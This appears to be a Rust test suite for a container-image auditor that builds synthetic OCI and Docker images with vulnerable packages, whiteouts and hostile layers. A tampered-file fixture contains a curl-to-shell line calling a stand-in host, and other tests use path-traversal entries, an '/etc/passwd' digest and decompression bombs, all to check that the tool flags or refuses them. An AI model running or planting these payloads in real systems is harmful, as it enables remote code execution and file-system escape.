//! The image audit on images the tests write: OCI layouts, oci-archive and docker-save
//! tarballs, whiteouts and opaque directories, tampered files, and hostile layers. The advisory
//! database is built from the shared PyPI advisories.

#[path = "../../pyward-deps/tests/common.rs"]
mod common;
mod support;

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use pyward_core::{Report, RuleSelector};
use pyward_image::{ImageOptions, Limits};
use support::*;

const SITE: &str = "usr/local/lib/python3.12/site-packages";
const VENV_SITE: &str = "opt/venv/lib/python3.12/site-packages";
/// The secret in the image's `.env`: must never appear in any output.
const DOTENV_SECRET: &str = "u7Kq2ZpX9vLm4RtY8wBn3HcJ6dFs1GaE";
/// The secret in the image config's Env.
const ENV_SECRET: &str = "postgres://app:Zr8vQ2mWx7pL@db/app";

/// The advisory database built once from the shared `osv-pypi-all.zip`.
fn database() -> Option<PathBuf> {
    static DB: OnceLock<Option<PathBuf>> = OnceLock::new();
    DB.get_or_init(|| {
        let shared = common::shared()?;
        let dir = tempfile::tempdir().unwrap().keep();
        let db = dir.join("advisory.db");
        let zip = shared.join("advisory-db/osv-pypi-all.zip");
        pyward_advisory::update(&db, &zip.display().to_string()).unwrap();
        Some(db)
    })
    .clone()
}

const NGINX: &str = "events {}\nhttp {\n  server {\n    listen 80;\n    location / {\n      root /srv/www;\n      autoindex on;\n    }\n  }\n}\n";

/// The base layer: jinja2 2.10 (vulnerable) with one tampered file, pyyaml 5.1 (vulnerable,
/// deleted by the next layer), django 2.0 in a venv (hidden by an opaque directory), nginx, .env.
fn base_layer() -> Vec<u8> {
    let mut entries = vec![Entry::Dir("usr"), Entry::Dir("usr/local")];
    entries.extend(distribution(
        SITE,
        "Jinja2",
        "2.10",
        &[
            ("jinja2/__init__.py", "__version__ = '2.10'\n"),
            ("jinja2/utils.py", "def escape(s):\n    return s\n"),
        ],
    ));
    // Tampered after install: the same path again with other contents (a later tar entry wins).
    entries.push(file(
        "usr/local/lib/python3.12/site-packages/jinja2/utils.py",
        "import os\nos.system('curl evil.example | sh')\n",
    ));
    entries.extend(distribution(
        SITE,
        "PyYAML",
        "5.1",
        &[("yaml/__init__.py", "# yaml\n")],
    ));
    entries.extend(distribution(
        VENV_SITE,
        "Django",
        "2.0",
        &[("django/__init__.py", "# django\n")],
    ));
    entries.push(file("etc/nginx/nginx.conf", NGINX));
    entries.push(file(
        "app/.env",
        &format!("DEBUG=false\nDJANGO_SECRET_KEY={DOTENV_SECRET}\n"),
    ));
    entries.push(file(
        "app/main.py",
        "import subprocess\nsubprocess.call('ls', shell=True)\n",
    ));
    layer(&entries)
}

/// The top layer: deletes pyyaml with whiteouts, makes the venv's site-packages opaque and
/// installs click 8.1.7 (not vulnerable) there.
fn top_layer() -> Vec<u8> {
    let mut entries = vec![
        file(
            &*Box::leak(format!("{SITE}/.wh.PyYAML-5.1.dist-info").into_boxed_str()),
            "",
        ),
        file(&*Box::leak(format!("{SITE}/.wh.yaml").into_boxed_str()), ""),
        file(
            &*Box::leak(format!("{VENV_SITE}/.wh..wh..opq").into_boxed_str()),
            "",
        ),
    ];
    entries.extend(distribution(
        VENV_SITE,
        "click",
        "8.1.7",
        &[("click/__init__.py", "# click\n")],
    ));
    layer(&entries)
}

fn config() -> Vec<u8> {
    config_json(
        serde_json::json!({
            "Env": ["PATH=/usr/local/bin:/usr/bin", format!("DATABASE_URL={ENV_SECRET}")],
            "ExposedPorts": {"8000/tcp": {}, "6379/tcp": {}},
            "WorkingDir": "/app",
        }),
        &[
            "/bin/sh -c #(nop) ADD file:1234 in / ",
            "ADD https://example.com/tool.tgz /opt/ # buildkit",
            "RUN pip install jinja2==2.10 # buildkit",
        ],
    )
}

fn run(image: &Path, db: Option<&Path>, limits: Limits, code: bool) -> Report {
    pyward_image::audit(
        &ImageOptions {
            image: image.to_path_buf(),
            db: db.map(Path::to_path_buf),
            code,
            limits,
            ..ImageOptions::default()
        },
        &RuleSelector::default(),
    )
}

fn codes_at(report: &Report) -> Vec<(String, String)> {
    report
        .findings
        .iter()
        .map(|f| (f.code.clone(), f.location.path.clone().unwrap_or_default()))
        .collect()
}

fn has(report: &Report, code: &str, path_part: &str) -> bool {
    codes_at(report)
        .iter()
        .any(|(c, p)| c == code && p.contains(path_part))
}

/// No secret in the report, before or after the report layer's redaction.
fn assert_no_secret(report: &Report) {
    let mut redacted = report.clone();
    pyward_secrets::redact_report(&mut redacted);
    let json = serde_json::to_string(&redacted).unwrap();
    for secret in [DOTENV_SECRET, "Zr8vQ2mWx7pL"] {
        assert!(!json.contains(secret), "secret in the report: {json}");
        for f in &report.findings {
            assert!(
                !f.message.contains(secret),
                "secret in a message: {}",
                f.message
            );
        }
    }
}

fn check_full_report(report: &Report, image_name: &str) {
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let site = format!("{image_name}!/{SITE}");
    // Vulnerable jinja2, at its METADATA in the image.
    assert!(
        has(
            report,
            "DEP001",
            &format!("{site}/Jinja2-2.10.dist-info/METADATA")
        ),
        "{:#?}",
        codes_at(report)
    );
    // The tampered file.
    assert!(
        has(report, "DEP201", &format!("{site}/jinja2/utils.py")),
        "{:#?}",
        codes_at(report)
    );
    assert!(!has(report, "DEP201", "jinja2/__init__.py"));
    // Deleted by a whiteout, hidden by an opaque directory: never reported.
    assert!(
        !codes_at(report)
            .iter()
            .any(|(_, p)| p.contains("PyYAML") || p.contains("yaml/"))
    );
    assert!(
        !codes_at(report)
            .iter()
            .any(|(_, p)| p.contains("Django") || p.contains("django/"))
    );
    assert_eq!(
        report.stats["image"]["distributions"], 2,
        "{:?}",
        report.stats
    );
    // Configuration: nginx autoindex, the .env secret.
    assert!(has(
        report,
        "NGX011",
        &format!("{image_name}!/etc/nginx/nginx.conf")
    ));
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.location.path.as_deref() == Some(&format!("{image_name}!/app/.env"))),
        "{:#?}",
        codes_at(report)
    );
    // The image config.
    let config = format!("{image_name}!config");
    for code in ["IMG001", "IMG002", "IMG003", "IMG004", "IMG006"] {
        assert!(
            has(report, code, &config),
            "{code}: {:#?}",
            codes_at(report)
        );
    }
    assert!(!has(report, "IMG005", ""));
    let ports: Vec<&str> = report
        .findings
        .iter()
        .filter(|f| f.code == "IMG006")
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(ports.len(), 1, "{ports:?}");
    assert!(ports[0].contains("6379"));
    assert_no_secret(report);
}

#[test]
fn oci_layout_with_gzip_and_plain_layers() {
    let Some(db) = database() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    write_oci(&dir, &config(), &[gzip(&base_layer()), top_layer()]);
    let report = run(&dir, Some(&db), Limits::default(), false);
    check_full_report(&report, &dir.display().to_string());
    assert_eq!(report.stats["image"]["format"], "oci");
    assert_eq!(report.stats["image"]["layers"], 2);
    // Without --code the application's sources are neither kept nor checked.
    assert!(!has(&report, "PY602", "app/main.py"));
}

#[test]
fn oci_archive_and_docker_save_tarballs() {
    let Some(db) = database() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    write_oci(&dir, &config(), &[gzip(&base_layer()), top_layer()]);
    let archive = tmp.path().join("image.oci.tar");
    tar_dir(&dir, &archive);
    let report = run(&archive, Some(&db), Limits::default(), false);
    check_full_report(&report, &archive.display().to_string());

    let saved = tmp.path().join("saved.tar");
    write_docker(&saved, &config(), &[base_layer(), gzip(&top_layer())]);
    let report = run(&saved, Some(&db), Limits::default(), false);
    check_full_report(&report, &saved.display().to_string());
    assert_eq!(report.stats["image"]["format"], "docker");
}

#[test]
fn code_option_checks_the_application_sources() {
    let Some(db) = database() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let saved = tmp.path().join("saved.tar");
    write_docker(&saved, &config(), &[base_layer(), top_layer()]);
    let report = run(&saved, Some(&db), Limits::default(), true);
    let main = format!("{}!/app/main.py", saved.display());
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.location.path.as_deref() == Some(&main)),
        "{:#?}",
        codes_at(&report)
    );
    assert_eq!(report.stats["image"]["python_files"], 1);
}

#[test]
fn a_missing_database_is_an_error_and_the_rest_is_audited() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    write_oci(&dir, &config(), &[base_layer()]);
    let report = run(
        &dir,
        Some(&tmp.path().join("none.db")),
        Limits::default(),
        false,
    );
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    assert!(report.errors[0].message.contains("advisory database"));
    assert!(has(&report, "DEP201", "jinja2/utils.py"));
    assert!(has(&report, "IMG001", "config"));
}

#[test]
fn a_user_and_health_check_silence_their_rules() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    let config = config_json(
        serde_json::json!({
            "User": "10001",
            "Env": ["PYTHON_VERSION=3.12.7", "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305"],
            "Healthcheck": {"Test": ["CMD", "python", "-c", "print(1)"]},
            "Labels": {"org.opencontainers.image.base.name": "docker.io/library/python:latest"},
        }),
        &["ADD --checksum=sha256:abcd https://example.com/a /a # buildkit"],
    );
    write_oci(&dir, &config, &[layer(&[file("app/readme.txt", "hi\n")])]);
    let report = run(&dir, None, Limits::default(), false);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let codes: Vec<&str> = report.findings.iter().map(|f| f.code.as_str()).collect();
    assert_eq!(codes, ["IMG005"], "{:#?}", report.findings);
}

#[test]
fn symlinks_and_hard_links_are_followed_inside_the_image() {
    let Some(db) = database() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    // The package's file is a hard link to a copy elsewhere, and its directory is reached through
    // a symlink: RECORD still matches.
    let body = "x = 1\n";
    let mut entries = vec![file("usr/share/real/mod.py", body)];
    let mut dist = distribution(SITE, "demo-pkg", "1.0", &[("demo/mod.py", body)]);
    dist.retain(|e| !matches!(e, Entry::File(p, _) if p.ends_with("demo/mod.py")));
    entries.extend(dist);
    entries.push(Entry::Symlink(
        "usr/local/lib/python3.12/site-packages/demo",
        "/usr/share/real",
    ));
    write_oci(&dir, &config(), &[layer(&entries)]);
    let report = run(&dir, Some(&db), Limits::default(), false);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    // Reached through the symlink: found (not DEP202), checked by size as it was not hashed
    // under site-packages.
    assert!(!has(&report, "DEP202", ""), "{:#?}", codes_at(&report));
    assert!(!has(&report, "DEP201", ""), "{:#?}", codes_at(&report));

    let mut entries = distribution(SITE, "demo-pkg", "1.0", &[("demo/mod.py", body)]);
    entries.push(Entry::HardLink(
        "app/copy.py",
        "usr/local/lib/python3.12/site-packages/demo/mod.py",
    ));
    entries.push(file("usr/local/lib/python3.12/site-packages/.wh.demo", ""));
    // A whiteout in the same layer applies to lower layers only: demo/mod.py stays.
    write_oci(&dir, &config(), &[layer(&entries)]);
    let report = run(&dir, Some(&db), Limits::default(), false);
    assert!(!has(&report, "DEP202", ""), "{:#?}", codes_at(&report));
}

#[test]
fn a_whiteout_reports_a_deleted_file_as_missing() {
    let Some(db) = database() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    let lower = layer(&distribution(
        SITE,
        "demo-pkg",
        "1.0",
        &[("demo/mod.py", "x = 1\n")],
    ));
    let upper = layer(&[file(
        "usr/local/lib/python3.12/site-packages/demo/.wh.mod.py",
        "",
    )]);
    write_oci(&dir, &config(), &[lower, upper]);
    let report = run(&dir, Some(&db), Limits::default(), false);
    assert!(
        has(&report, "DEP202", &format!("!/{SITE}/demo/mod.py")),
        "{:#?}",
        codes_at(&report)
    );
}

/// A good layer first, then the hostile one: its error names it, the rest is reported.
fn hostile(layer_bytes: Vec<u8>, limits: Limits) -> Report {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    let good = layer(&distribution(
        SITE,
        "demo-pkg",
        "1.0",
        &[("demo/mod.py", "x = 1\n")],
    ));
    let tail = layer(&[file("etc/nginx/nginx.conf", NGINX)]);
    write_oci(&dir, &config(), &[good, layer_bytes, tail]);
    let report = run(&dir, Some(&tmp.path().join("none.db")), limits, false);
    // The layers around the hostile one were read.
    assert!(
        has(&report, "NGX011", "etc/nginx/nginx.conf"),
        "{:#?}",
        codes_at(&report)
    );
    assert_eq!(report.stats["image"]["distributions"], 1);
    report
}

fn layer_errors(report: &Report) -> Vec<String> {
    report
        .errors
        .iter()
        .filter(|e| e.path.contains("!layer 2 (blobs/sha256/"))
        .map(|e| e.message.clone())
        .collect()
}

#[test]
fn hostile_traversal_entries_are_refused() {
    let bytes = layer(&[
        Entry::RawName("../../etc/evil.conf", b"x".to_vec()),
        Entry::RawName("app/../../../root/.env", b"SECRET_KEY=abc".to_vec()),
        file("app/fine.txt", "fine\n"),
    ]);
    let report = hostile(bytes, Limits::default());
    let errors = layer_errors(&report);
    assert_eq!(errors.len(), 2, "{:?}", report.errors);
    assert!(errors[0].contains("`../../etc/evil.conf` climbs out of the image root"));
    // The rest of that layer was applied.
    assert!(report.stats["image"]["paths"].as_u64().unwrap() > 5);
}

#[test]
fn hostile_devices_are_recorded_never_read() {
    let bytes = layer(&[
        Entry::CharDevice("etc/nginx/conf.d/zero.conf"),
        Entry::CharDevice("app/.env"),
    ]);
    let report = hostile(bytes, Limits::default());
    assert!(layer_errors(&report).is_empty(), "{:?}", report.errors);
    assert!(
        !codes_at(&report)
            .iter()
            .any(|(_, p)| p.contains("zero.conf") || p.contains(".env"))
    );
}

#[test]
fn hostile_declared_size_stops_the_layer() {
    let bytes = layer(&[
        file("app/a.txt", "a\n"),
        Entry::Declares("app/huge.bin", 1 << 40),
    ]);
    let report = hostile(bytes, Limits::default());
    let errors = layer_errors(&report);
    assert_eq!(errors.len(), 1, "{:?}", report.errors);
    assert!(
        errors[0].contains("declares 1099511627776 bytes, over the limit"),
        "{errors:?}"
    );
}

#[test]
fn hostile_gzip_bomb_is_capped() {
    // 64 MiB of zeros compress to about 64 KiB; the cap is 4 MiB.
    let zeros = vec![0u8; 64 << 20];
    let bomb = gzip(&layer(&[Entry::File("app/zeros.bin", zeros)]));
    assert!(bomb.len() < 1 << 20);
    let limits = Limits {
        max_layer_bytes: 4 << 20,
        ..Limits::default()
    };
    let report = hostile(bomb, limits);
    let errors = layer_errors(&report);
    assert_eq!(errors.len(), 1, "{:?}", report.errors);
    assert!(
        errors[0].contains("more than 4194304 bytes once decompressed"),
        "{errors:?}"
    );
}

#[test]
fn too_many_entries_stop_the_image() {
    let entries: Vec<Entry> = (0..50)
        .map(|i| file(Box::leak(format!("app/f{i}").into_boxed_str()), "x"))
        .collect();
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    write_oci(&dir, &config(), &[layer(&entries)]);
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let report = run(&dir, None, limits, false);
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    assert!(report.errors[0].message.contains("more than 10 entries"));
    // The config was still audited.
    assert!(has(&report, "IMG001", "config"));
}

#[test]
fn not_an_image_is_one_error() {
    let tmp = tempfile::tempdir().unwrap();
    let report = run(tmp.path(), None, Limits::default(), false);
    assert_eq!(report.errors.len(), 1);
    assert!(report.errors[0].message.contains("neither an OCI layout"));
    let junk = tmp.path().join("junk.tar");
    std::fs::write(&junk, b"this is not a tarball at all").unwrap();
    let report = run(&junk, None, Limits::default(), false);
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    // A layout whose index names a blob path outside blobs/ is refused.
    let dir = tmp.path().join("evil");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("index.json"),
        r#"{"manifests":[{"digest":"sha256:../../../etc/passwd"}]}"#,
    )
    .unwrap();
    let report = run(&dir, None, Limits::default(), false);
    assert!(
        report.errors[0].message.contains("not a digest"),
        "{:?}",
        report.errors
    );
}

fn zstd(bytes: &[u8]) -> Vec<u8> {
    ruzstd::encoding::compress_to_vec(bytes, ruzstd::encoding::CompressionLevel::Fastest)
}

#[test]
fn zstd_layers_are_read_and_capped() {
    let Some(db) = database() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    write_oci(&dir, &config(), &[zstd(&base_layer()), zstd(&top_layer())]);
    let report = run(&dir, Some(&db), Limits::default(), false);
    check_full_report(&report, &dir.display().to_string());

    let bomb = zstd(&layer(&[Entry::File("app/zeros.bin", vec![0u8; 32 << 20])]));
    assert!(bomb.len() < 4 << 20, "{}", bomb.len());
    let limits = Limits {
        max_layer_bytes: 4 << 20,
        ..Limits::default()
    };
    let report = hostile(bomb, limits);
    let errors = layer_errors(&report);
    assert_eq!(errors.len(), 1, "{:?}", report.errors);
    assert!(
        errors[0].contains("more than 4194304 bytes once decompressed"),
        "{errors:?}"
    );
}

#[test]
fn a_blob_symlinked_out_of_the_layout_is_not_read() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("layout");
    let outside = tmp.path().join("outside.tar");
    let bytes = layer(&[file("etc/nginx/nginx.conf", NGINX)]);
    write_oci(&dir, &config(), std::slice::from_ref(&bytes));
    // Replace the layer blob by a symlink to an identical file outside the layout.
    std::fs::write(&outside, &bytes).unwrap();
    let blob = dir.join("blobs/sha256").join(sha256_hex(&bytes));
    std::fs::remove_file(&blob).unwrap();
    std::os::unix::fs::symlink(&outside, &blob).unwrap();
    let report = run(&dir, None, Limits::default(), false);
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    assert!(
        report.errors[0]
            .message
            .contains("resolves outside the image directory"),
        "{:?}",
        report.errors
    );
    assert!(!has(&report, "NGX011", ""));
    // The config was still audited.
    assert!(has(&report, "IMG001", "config"));
}
